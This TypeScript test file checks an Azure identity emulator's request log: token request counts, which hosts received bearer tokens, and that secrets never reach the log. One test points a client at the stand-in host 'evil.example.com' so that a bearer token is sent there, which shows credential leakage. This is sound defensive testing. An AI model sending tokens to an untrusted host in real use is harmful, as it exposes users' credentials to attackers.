// The request log is how tests prove what clients did: how many tokens they
// asked for, and which hosts got a bearer token. It never holds a secret.
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { getBearerTokenProvider } from '@azure/identity';
import { AzureOpenAI } from 'openai';
import { type EmulatorFixture, startEmulatorFixture } from './fixtures.ts';
import { customers, platform } from './sample-world.ts';

const { healthy } = customers;
const dataPlaneScope = 'https://cognitiveservices.azure.com/.default';
const hello = [{ role: 'user' as const, content: 'Hello' }];

let fx: EmulatorFixture;
before(async () => {
  fx = await startEmulatorFixture({ extraHostNames: ['evil.example.com'] });
});
beforeEach(() => fx.reset());
after(() => fx.close());

describe('request log', () => {
  it('counts token requests: one per credential and scope while the token is valid', async () => {
    const credential = fx.secretCredential(healthy.tenantId);
    const first = fx.openAi(healthy.resource, { credential });
    const second = fx.openAi(healthy.resource, { credential });
    await first.chat.completions.create({ model: 'gpt-4o', messages: hello });
    await second.chat.completions.create({ model: 'gpt-4o', messages: hello });
    await first.embeddings.create({ model: 'text-embedding-3-small', input: 'x' });
    assert.equal(
      fx.emulator.requests({ service: 'entra', grantType: 'client_credentials' }).length,
      1,
    );

    await credential.getToken('https://management.azure.com/.default');
    const scopes = fx.emulator.requests({ service: 'entra' }).map((r) => r.scope);
    assert.deepEqual(scopes, [dataPlaneScope, 'https://management.azure.com/.default']);
    assert.equal(fx.emulator.requests({ service: 'openai', outcome: 'ok' }).length, 3);
  });

  it('shows which hosts received a bearer token, including a non-Azure one', async () => {
    const provider = getBearerTokenProvider(fx.secretCredential(healthy.tenantId), dataPlaneScope);
    await fx.openAi(healthy.resource, { tokenProvider: provider }).chat.completions.create({
      model: 'gpt-4o',
      messages: hello,
    });
    // A client that was talked into another endpoint: the token leaves with the request.
    const lured = new AzureOpenAI({
      endpoint: 'https://evil.example.com',
      apiVersion: '2024-10-21',
      azureADTokenProvider: provider,
      fetch: fx.transport.fetch,
      maxRetries: 0,
    });
    await assert.rejects(lured.chat.completions.create({ model: 'gpt-4o', messages: hello }), {
      status: 404,
    });

    const withToken = fx.emulator.requests({ bearerTokenPresent: true });
    assert.deepEqual(
      withToken.map((r) => [r.host, r.service]),
      [
        [`${healthy.resource}.openai.azure.com`, 'openai'],
        ['evil.example.com', 'unknown'],
      ],
    );
    assert.equal(fx.emulator.requests({ service: 'entra', bearerTokenPresent: true }).length, 0);
  });

  it('records who asked and what happened, never secret, assertion or token values', async () => {
    const federatedToken = fx.keys.federatedIssuer.issueToken();
    const tokens = [
      (await fx.secretCredential(healthy.tenantId).getToken(dataPlaneScope)).token,
      (await fx.certificateCredential(healthy.tenantId).getToken(dataPlaneScope)).token,
      (
        await (
          await fx.workloadIdentityCredential(healthy.tenantId, federatedToken)
        ).getToken(dataPlaneScope)
      ).token,
    ];
    await fx
      .secretCredential(healthy.tenantId, 'canary-wrong-secret')
      .getToken(dataPlaneScope)
      .catch(() => {});
    await fx.openAi(healthy.resource, { tenantId: healthy.tenantId }).chat.completions.create({
      model: 'gpt-4o',
      messages: hello,
    });

    const entries = fx.emulator.requests();
    const serialized = JSON.stringify(entries);
    for (const secret of [
      platform.clientSecret,
      'canary-wrong-secret',
      federatedToken,
      ...tokens,
    ]) {
      assert.ok(!serialized.includes(secret), 'a secret value reached the log');
    }
    assert.ok(!serialized.includes('eyJ'), 'no JWT of any kind in the log');

    const [failed] = fx.emulator.requests({ outcome: 'AADSTS7000215' });
    assert.equal(failed?.clientId, platform.appId);
    assert.equal(failed?.tenantId, healthy.tenantId);
    assert.equal(failed?.status, 401);
    const [chat] = fx.emulator.requests({ service: 'openai' });
    assert.deepEqual(
      {
        resource: chat?.resource,
        deployment: chat?.deployment,
        tenantId: chat?.tenantId,
        status: chat?.status,
      },
      { resource: healthy.resource, deployment: 'gpt-4o', tenantId: healthy.tenantId, status: 200 },
    );
    assert.ok(entries.every((e) => !Number.isNaN(Date.parse(e.time))));
  });

  it('clearRequests() empties it', async () => {
    await fx.secretCredential(healthy.tenantId).getToken(dataPlaneScope);
    assert.equal(fx.emulator.requests().length, 1);
    fx.emulator.clearRequests();
    assert.deepEqual(fx.emulator.requests(), []);
  });
});
